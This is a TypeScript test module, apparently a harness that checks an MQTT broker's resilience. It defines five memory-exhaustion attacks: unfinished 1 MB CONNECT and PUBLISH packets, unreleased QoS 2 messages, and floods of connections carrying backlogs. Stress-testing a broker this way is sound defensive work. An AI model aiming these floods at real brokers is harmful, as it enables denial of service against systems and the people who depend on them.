/** Messages that are begun and never ended, and what a broker keeps for them. */
import { connectPacket, publishPacket } from "../../kit/wire.ts";
import type { Attack } from "../attack.ts";
import { bytesOf, open, openDevice, ownTopic, write } from "../wire.ts";

const megabyte = 1024 * 1024;
const holdMs = 2000;

/** All of a packet but its last byte. */
const unfinished = (packet: Buffer) => packet.subarray(0, -1);

/** A CONNECT whose header announces more than any can have. */
const hugeConnect = Buffer.concat([Buffer.from([0x10, 0x80, 0x80, 0x40]), Buffer.alloc(megabyte)]);

export const memoryAttacks: readonly Attack[] = [
  {
    name: "connect-unfinished",
    says: "sends CONNECT packets of 1 MB without their last byte",
    who: "anybody who reaches the port",
    costs: "1 MB each, no credentials",
    auth: true,
    few: 780,
    many: 3000,
    async run(target, times) {
      for (let i = 0; i < times; i++) (await open(target, target.mqttPort)).write(unfinished(hugeConnect));
      await Bun.sleep(holdMs);
      return times;
    },
  },
  {
    name: "publish-unfinished",
    says: "sends messages of 1 MB without their last byte",
    who: "one registered device",
    costs: "1 MB each",
    auth: true,
    few: 600,
    many: 2000,
    async run(target, times) {
      const half = unfinished(bytesOf(publishPacket(1, "x".repeat(megabyte), { topic: ownTopic(target) })));
      // Side by side: a device that has its connections waits for the answer that it may have no more.
      for (let from = 0; from < times; from += 50) {
        const some = Array.from({ length: Math.min(50, times - from) }, (_, i) => `half-${from + i}`);
        await Promise.all(some.map(async (id) => (await openDevice(target, id)).write(half)));
      }
      await Bun.sleep(holdMs);
      return times;
    },
  },
  {
    name: "qos2-unreleased",
    says: "sends messages of 1 MB with QoS 2 and never PUBREL",
    who: "one registered device",
    costs: "1 MB each",
    auth: true,
    few: 600,
    many: 2000,
    async run(target, times) {
      const device = await openDevice(target, "qos2");
      for (let i = 1; i <= times; i++) {
        if (device.destroyed) break;
        const packet = bytesOf(publishPacket(i, "x".repeat(megabyte), { qos: 2, topic: ownTopic(target) }));
        await write(device, packet);
      }
      await Bun.sleep(holdMs);
      return times;
    },
  },
  {
    name: "held-backlogs",
    says: "connects while the intake is held, each time with a hundred messages of 1 kB at once, and stays",
    who: "anybody who may publish",
    costs: "a connection and 100 kB each",
    held: true,
    env: { SPOOL_MAX_BYTES: "65536" },
    few: 200,
    many: 1_000,
    async run(target, times) {
      const backlog = bytesOf(
        ...Array.from({ length: 100 }, (_, i) =>
          publishPacket(i + 1, "x".repeat(1_000), { topic: ownTopic(target) }),
        ),
      );
      for (let i = 0; i < times; i++)
        (await open(target, target.mqttPort)).write(
          Buffer.concat([bytesOf(connectPacket(`backlog-${i}`)), backlog]),
        );
      await Bun.sleep(holdMs);
      return times;
    },
  },
  {
    name: "held-abandoned",
    says: "connects again and again while the intake is held, each time with a message of 1 MB",
    who: "anybody who may publish",
    costs: "1 MB each",
    held: true,
    env: { SPOOL_MAX_BYTES: "65536", MAX_PAYLOAD_BYTES: "1048576" },
    few: 400,
    many: 1500,
    async run(target, times) {
      const packet = bytesOf(publishPacket(1, "x".repeat(megabyte), { topic: ownTopic(target) }));
      for (let i = 0; i < times; i++) {
        // Without credentials, which cannot be checked while the database is away.
        const device = await open(target, target.mqttPort);
        device.write(bytesOf(connectPacket(`again-${i}`)));
        await new Promise((done) => device.once("data", done).once("close", done));
        await Promise.race([write(device, packet), Bun.sleep(50)]);
        device.destroy();
      }
      await Bun.sleep(holdMs);
      return times;
    },
  },
];
